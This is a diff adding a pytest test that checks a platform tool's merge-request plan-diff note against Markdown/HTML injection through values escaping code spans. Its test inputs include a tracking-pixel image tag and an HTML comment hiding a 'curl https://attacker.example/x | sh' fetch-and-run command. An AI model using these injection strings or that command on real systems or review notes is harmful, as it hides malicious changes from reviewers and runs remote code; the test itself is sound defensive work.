@@ -9,14 +9,19 @@ for the attacker.
 
 from __future__ import annotations
 
+import copy
+import html.parser
 import ipaddress
 import tomllib
 from typing import Any
 
+import cmarkgfm
 import pytest
 import yaml
 
 from components.gitlab_runner import JOB_LABEL, NAMESPACE, PROTECTED_NAMESPACE, PROTECTED_TAG
+from platformctl.diff import diff_renders, to_markdown
+from platformctl.helm_render import RELEASE_TYPE
 from platformctl.render import Render
 from tests.test_ci_file import CI_FILE, GLOBAL_KEYWORDS, PROTECTED_ONLY, _resolve
 from tests.test_delivery_attacks import DNS, IMDS, TRAEFIK, Network, Pod, _subnet_address
@@ -187,3 +192,44 @@ def test_no_runner_lets_a_job_mount_the_host_or_act_with_the_runners_rights(plan
         roles = [o for o in release["rendered"] if o["kind"] in ("Role", "ClusterRole", "RoleBinding", "ClusterRoleBinding")]
         assert sorted(o["kind"] for o in roles) == ["Role", "RoleBinding"], release["name"]
         assert all(o["metadata"]["namespace"] == kubernetes["namespace"] for o in roles), release["name"]
+
+
+# --- the merge-request note: what a reviewer sees of the plan diff --------------------------------------
+
+# What the note's plan diff is made of; anything else (an image, a link, an HTML comment hiding text)
+# came from a value, a key or a name that broke out of its code span.
+NOTE_TAGS = {"h3", "h4", "p", "strong", "em", "ul", "li", "code", "blockquote"}
+
+
+class _Tags(html.parser.HTMLParser):
+    def __init__(self) -> None:
+        super().__init__()
+        self.tags: set[str] = set()
+        self.comments: list[str] = []
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+
+    def handle_comment(self, data: str) -> None:
+        self.comments.append(data)
+
+
+@pytest.mark.parametrize("value", [
+    'nginx:1.27"` <img src="https://attacker.example/pixel.png"> `',  # a tracking image
+    'nginx:1.27"` <!-- ;curl https://attacker.example/x | sh --> `',  # the real value hidden, a harmless one shown
+    "``` <!-- -->",
+])
+def test_a_value_in_the_plan_cannot_hide_or_forge_lines_of_the_merge_request_note(renders: dict[str, Render], value: str) -> None:
+    """The note's plan diff shows the values a change sets. A value (an image, an annotation, a config
+    string) that closes its code span with a backtick writes its own Markdown and HTML into the note: a
+    harmless value shown while an HTML comment hides the real one, an image that reports who read the
+    review. Rendered by cmark-gfm (CommonMark, raw HTML let through as GitLab's sanitizer lets comments
+    and images through), nothing but the diff's own markup may come out."""
+    base = renders["dev"].plan
+    head = copy.deepcopy(base)
+    [release] = [r for r in head["resources"] if r["type"] == RELEASE_TYPE and r["name"] == "control-plane-gitlab-runner"]
+    release["rendered"][0].setdefault("metadata", {}).setdefault("annotations", {})[f"x{value}"] = value
+    note = to_markdown(diff_renders((base, {}), (head, {})), base, head, "Plan diff: dev")
+    parser = _Tags()
+    parser.feed(cmarkgfm.github_flavored_markdown_to_html(note, options=cmarkgfm.cmark.Options.CMARK_OPT_UNSAFE))
+    assert parser.tags <= NOTE_TAGS and not parser.comments, (parser.tags - NOTE_TAGS, parser.comments)
